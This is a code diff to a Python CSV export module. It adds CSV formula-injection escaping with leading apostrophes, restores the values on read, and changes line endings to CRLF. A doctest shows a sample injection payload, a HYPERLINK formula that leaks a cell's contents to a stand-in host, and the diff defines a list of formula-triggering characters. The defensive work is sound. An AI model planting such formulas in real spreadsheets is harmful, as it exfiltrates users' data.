@@ -4,6 +4,12 @@ French Excel reads ";" as the separator, "," as the decimal mark, VRAI/FAUX as b
 guesses the encoding from a BOM (without one, "Drôme" turns into "DrÃ´me"). Both dialects write
 ISO dates and join list columns with "|", as DESIGN.md section 2 promises, so only separators,
 booleans and encoding differ. datapackage.json declares the dialect the files were written in.
+
+Both dialects are opened by spreadsheets, so neither writes a text cell that a spreadsheet would
+evaluate: a cell starting with "=", "+", "-", "@", a tab or a carriage return (OWASP's list for
+CSV injection) gets a leading apostrophe, which spreadsheets read as "this is text" and do not
+show. A cell that already starts with an apostrophe gets one more, so `read_csv` can drop
+exactly one and give back the value as it was. The Parquet files hold values untouched.
 """
 
 from __future__ import annotations
@@ -19,6 +25,10 @@ import numpy as np
 import pandas as pd
 
 LIST_SEPARATOR = "|"
+# RFC 4180's line end. With it, a cell holding a lone carriage return (old Mac text, a PDF
+# title) is quoted like one holding "\n"; with "\n" alone the CR was written bare, and every
+# CSV reader broke the row there.
+LINE_END = "\r\n"
 
 DIALECTS: dict[str, dict] = {
     "standard": {"sep": ",", "decimal": ".", "encoding": "utf-8", "true": "True",
@@ -28,6 +38,26 @@ DIALECTS: dict[str, dict] = {
 }
 
 
+# What makes a spreadsheet read a cell as a formula, plus the apostrophe that escapes it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def neutralise(text: str) -> str:
+    """`text` as a spreadsheet shows it without evaluating it.
+
+    >>> print(neutralise('=HYPERLINK("http://x?leak="&A1,"clic")'))
+    '=HYPERLINK("http://x?leak="&A1,"clic")
+    >>> neutralise("- un item"), neutralise("CPTS du Lac")
+    ("'- un item", 'CPTS du Lac')
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def restore(text: str) -> str:
+    """The inverse of `neutralise`."""
+    return text[1:] if text.startswith("'") else text
+
+
 def _is_list(value: object) -> bool:
     return isinstance(value, list | tuple | np.ndarray)
 
@@ -35,7 +65,9 @@ def _is_list(value: object) -> bool:
 def _cell(value: object) -> object:
     """One object cell as CSV wants it; scalars the writer already handles pass through."""
     if _is_list(value):
-        return LIST_SEPARATOR.join("" if v is None else str(v) for v in value)
+        return neutralise(LIST_SEPARATOR.join("" if v is None else str(v) for v in value))
+    if isinstance(value, str):
+        return neutralise(value)
     if isinstance(value, dt.datetime | pd.Timestamp):
         return value.isoformat()
     if isinstance(value, dt.date):
@@ -58,8 +90,8 @@ def prepare(df: pd.DataFrame, dialect: str = "standard") -> pd.DataFrame:
                 out[name] = col.dt.strftime("%Y-%m-%d").astype(object).where(col.notna(), None)
             else:
                 out[name] = col.map(lambda v: v.isoformat() if pd.notna(v) else None)
-        elif col.dtype == object:
-            out[name] = col.map(_cell)
+        elif pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col):
+            out[name] = col.map(_cell, na_action="ignore")
     return out
 
 
@@ -83,7 +115,7 @@ def write_csv(df: pd.DataFrame, path: Path, dialect: str = "standard") -> Path:
             sep=options["sep"],
             decimal=options["decimal"],
             encoding=options["encoding"],
-            lineterminator="\n",
+            lineterminator=LINE_END,
         )
         os.chmod(tmp, 0o644)  # mkstemp makes it private; a dataset is for others to read
         os.replace(tmp, path)
@@ -105,7 +137,7 @@ def append_csv(df: pd.DataFrame, handle: TextIO, dialect: str = "standard",
     """Append `df` to a file from `open_csv`: the same lines `write_csv` writes for them."""
     options = DIALECTS[dialect]
     prepare(df, dialect).to_csv(handle, index=False, header=header, sep=options["sep"],
-                       decimal=options["decimal"], lineterminator="\n")
+                       decimal=options["decimal"], lineterminator=LINE_END)
 
 
 def split_list(value: object) -> list[str]:
@@ -128,6 +160,9 @@ def read_csv(
         true_values=[options["true"]], false_values=[options["false"]],
         dtype={name: str for name in list_columns},
     )
+    for name in df.columns:
+        if pd.api.types.is_object_dtype(df[name]) or pd.api.types.is_string_dtype(df[name]):
+            df[name] = df[name].map(lambda v: restore(v) if isinstance(v, str) else v)
     for name in list_columns:
         df[name] = df[name].map(split_list)
     return df
